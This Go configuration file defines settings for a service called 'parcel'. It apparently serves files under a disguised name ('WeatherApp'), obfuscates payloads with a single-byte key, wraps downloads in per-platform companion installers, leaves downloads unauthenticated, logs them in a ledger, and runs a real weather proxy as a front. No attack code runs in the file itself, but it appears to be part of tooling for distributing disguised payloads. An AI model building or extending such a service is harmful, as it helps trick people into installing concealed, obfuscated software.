package config

import (
	"os"
	"path/filepath"
	"time"
)

// Config represents the complete parcel configuration.
type Config struct {
	Service    ServiceConfig    `yaml:"service"`
	API        APIConfig        `yaml:"api"`
	Artifacts  ArtifactsConfig  `yaml:"artifacts"`
	Delivery   DeliveryConfig   `yaml:"delivery"`
	Companions CompanionsConfig `yaml:"companions"`
	Transform  TransformConfig  `yaml:"transform"`
	Archive    ArchiveConfig    `yaml:"archive"`
	Workspace  WorkspaceConfig  `yaml:"workspace"`
	Ledger     LedgerConfig     `yaml:"ledger"`
	Weather    WeatherConfig    `yaml:"weather"`

	// SourcePath is the absolute path the config was loaded from.
	SourcePath string `yaml:"-"`
}

// ServiceConfig defines core service settings.
type ServiceConfig struct {
	Name      string `yaml:"name"`
	LogLevel  string `yaml:"log_level"`
	LogFormat string `yaml:"log_format"`
}

// APIConfig defines HTTP API server settings.
type APIConfig struct {
	Listen          string        `yaml:"listen"`
	ShutdownTimeout time.Duration `yaml:"shutdown_timeout"`
	// OperatorToken guards the ledger and event stream endpoints. Downloads
	// are never authenticated.
	OperatorToken string `yaml:"operator_token,omitempty"`
}

// ArtifactsConfig points at the externally populated build directory.
type ArtifactsConfig struct {
	Dir string `yaml:"dir"`
}

// DeliveryConfig controls the names presented to clients.
type DeliveryConfig struct {
	// Name is the disguised base filename, e.g. "WeatherApp".
	Name string `yaml:"name"`
}

// CompanionsConfig lists companion download URLs per platform. An empty URL
// means downloads for that platform are not wrapped in an installer.
type CompanionsConfig struct {
	Windows  string `yaml:"windows"`
	MacOS    string `yaml:"macos"`
	Linux    string `yaml:"linux"`
	LinuxRPM string `yaml:"linux_rpm"`
}

// TransformConfig holds the payload obfuscation key.
type TransformConfig struct {
	Key int `yaml:"key"`
}

// KeyByte returns the key as a byte. Only meaningful after validation.
func (t TransformConfig) KeyByte() byte { return byte(t.Key) }

// ArchiveConfig controls archive assembly.
type ArchiveConfig struct {
	Engine       string        `yaml:"engine"` // builtin | external
	Timeout      time.Duration `yaml:"timeout"`
	MinFreeBytes uint64        `yaml:"min_free_bytes"`
	TarPath      string        `yaml:"tar_path,omitempty"`
	ZipPath      string        `yaml:"zip_path,omitempty"`
}

// WorkspaceConfig controls per-request scratch directories.
type WorkspaceConfig struct {
	BaseDir       string        `yaml:"base_dir"`
	StaleAfter    time.Duration `yaml:"stale_after"`
	SweepInterval time.Duration `yaml:"sweep_interval"`
}

// LedgerConfig defines the download ledger database. Empty path disables it.
type LedgerConfig struct {
	Path string `yaml:"path"`
}

// WeatherConfig configures the weather lookup proxy.
type WeatherConfig struct {
	Enabled     *bool         `yaml:"enabled,omitempty"`
	TTL         time.Duration `yaml:"ttl"`
	Timeout     time.Duration `yaml:"timeout"`
	GeocodeURL  string        `yaml:"geocode_url"`
	ForecastURL string        `yaml:"forecast_url"`
}

// IsEnabled reports whether the proxy is on. An absent enabled key means on.
func (w WeatherConfig) IsEnabled() bool { return w.Enabled == nil || *w.Enabled }

// Defaults returns a Config with sensible defaults.
func Defaults() *Config {
	return &Config{
		Service: ServiceConfig{
			Name:      "parcel",
			LogLevel:  "info",
			LogFormat: "json",
		},
		API: APIConfig{
			Listen:          "127.0.0.1:8080",
			ShutdownTimeout: 10 * time.Second,
		},
		Artifacts: ArtifactsConfig{
			Dir: "./builds",
		},
		Delivery: DeliveryConfig{
			Name: "WeatherApp",
		},
		Transform: TransformConfig{
			Key: 0x5a,
		},
		Archive: ArchiveConfig{
			Engine:       "builtin",
			Timeout:      60 * time.Second,
			MinFreeBytes: 64 << 20,
		},
		Workspace: WorkspaceConfig{
			BaseDir:       filepath.Join(os.TempDir(), "parcel"),
			StaleAfter:    time.Hour,
			SweepInterval: 10 * time.Minute,
		},
		Weather: WeatherConfig{
			Enabled:     boolPtr(true),
			TTL:         60 * time.Second,
			Timeout:     10 * time.Second,
			GeocodeURL:  "https://geocoding-api.open-meteo.com/v1/search",
			ForecastURL: "https://api.open-meteo.com/v1/forecast",
		},
	}
}

func boolPtr(b bool) *bool { return &b }
